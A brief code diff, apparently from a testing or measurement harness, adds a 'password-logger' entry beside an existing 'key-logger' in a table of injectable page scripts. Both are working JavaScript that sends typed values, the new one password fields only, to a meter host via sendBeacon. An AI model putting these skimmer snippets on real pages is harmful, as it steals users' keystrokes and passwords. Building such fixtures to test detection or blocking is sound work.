@@ -172,6 +172,11 @@ first.src = "https://{hosts.METER_BARE}/start.gif?u=" + covered.join("");
     "key-logger": _script("signed-in", f"""
 document.addEventListener("input", (event) => navigator.sendBeacon("{_METER}", event.target.value));
 """),
+    "password-logger": _script("everywhere", f"""
+document.addEventListener("input", (event) => {{
+  if (event.target.type === "password") navigator.sendBeacon("{_METER}", event.target.value);
+}});
+"""),
 }
 
 _OWN = {
